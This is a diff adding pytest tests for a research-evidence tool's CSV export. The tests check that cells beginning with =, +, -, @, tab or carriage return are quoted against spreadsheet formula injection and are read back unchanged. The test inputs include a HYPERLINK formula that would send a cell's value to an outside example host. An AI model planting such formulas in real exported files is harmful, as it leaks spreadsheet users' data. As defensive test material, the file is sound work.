@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import json
+import re
 import shutil
 from pathlib import Path
 
@@ -187,3 +188,58 @@ def test_every_version_is_kept_readable_and_checked(project: eb.Settings) -> Non
         eb.load_version(project, 1)
     with pytest.raises(eb.EvidenceError, match="evidence version 7 is not kept"):
         eb.load_version(project, 7)
+
+
+NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+FORMULAS = {"title": '=HYPERLINK("https://example.org/?"&A1,"Click")', "publicationTitle": "@SUM(1+1)",
+            "quote": "-leading dash text", "design": "+1 design", "population": "'=already quoted once",
+            "reported_statistic": "-0.24"}
+
+
+def test_text_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_verbatim(project: eb.Settings) -> None:
+    """OWASP's CSV injection rule in every published table and archive; the project's readers undo it."""
+    snapshot = eb.read_snapshot(project.snapshot)
+    current = eb.load_evidence(project).manifest["evidence_version"]
+    lines = [*GOOD_NOTE[:3], f"design: {FORMULAS['design']}", f"population: {FORMULAS['population']}",
+             *GOOD_NOTE[4:14], f"quote: {FORMULAS['quote']}",
+             "# Outcome T2", "outcome: satisfaction", "domain: hope", "measure: narrative",
+             f"reported_statistic: {FORMULAS['reported_statistic']}", "quote: satisfaction was -0.24 lower"]
+    items = [*snapshot.items, note("NNNNNNNN", "AAAAAAAA", lines),
+             parent("AAAAAAAA", title=FORMULAS["title"], publicationTitle=FORMULAS["publicationTitle"])]
+    report = eb.build_evidence(project, eb.Snapshot(snapshot.library, items), today=dt.date(2030, 1, 2))
+    assert [p for p in report.problems if p.severity == "error"] == []
+    published = [project.evidence / name for name in ("studies.csv", "outcomes.csv")] + [
+        project.evidence / "versions" / f"v{current + 1:04d}" / name for name in ("studies.csv", "outcomes.csv")]
+    for path in published:
+        with path.open(encoding="utf-8", newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(c)]
+        assert formulas == [], path  # -0.24 stays a number
+    written = (project.evidence / "outcomes.csv").read_text(encoding="utf-8")
+    assert "'-leading dash text" in written and ",-0.24," in written  # the text cell quoted, the number kept
+    assert "''=already quoted once" in (project.evidence / "studies.csv").read_text(encoding="utf-8")
+    for loaded in (eb.load_evidence(project), eb.load_version(project, current + 1)):
+        study = loaded.studies.set_index("study_id").loc["AAAAAAAA"]
+        assert (study["title"], study["journal"]) == (FORMULAS["title"], FORMULAS["publicationTitle"])
+        assert (study["design"], study["population"]) == (FORMULAS["design"], FORMULAS["population"])
+        findings = loaded.outcomes.set_index("finding_id")
+        assert findings.loc["T1", "quote"] == FORMULAS["quote"]
+        assert findings.loc["T2", "reported_statistic"] == FORMULAS["reported_statistic"]
+        assert (findings["ci_high"] < 0).any()  # numeric columns read as numbers, negative ones too
+    assert f"AAAAAAAA ({eb.load_evidence(project).studies.set_index('study_id').loc['AAAAAAAA', 'citation_key']})" \
+        in report.changes["studies"]["added"]
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+1 555 0100", "'+1 555 0100"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"),
+    ("\rx", "\"'\rx\""), ("'=x", "''=x"), ("''+x", "'''+x"),  # a quote already there gets one more: reversible
+    ("'plain", "'plain"), ("plain", "plain"), ("", ""), ("'", "'"), ("=", "'="), ("-", "'-"),
+    ("-0.24", "-0.24"), ("+1", "+1"), ("1e-3", "1e-3"), ("-.5E+2", "-.5E+2"),  # numbers stay numbers
+    ("a\rb", "\"a\rb\""),  # a bare carriage return ended the row for every reader
+])
+def test_the_csv_rule_quotes_what_a_spreadsheet_would_run_and_is_undone_exactly(cell: str, written: str) -> None:
+    from evidencebook._evidence import _csv, _read_csv
+
+    text = _csv(pd.DataFrame({"text": [cell], "number": [-0.24]}))
+    assert text == f"text,number\n{written},-0.24\n"
+    assert _read_csv(text)["text"].tolist() == [cell]
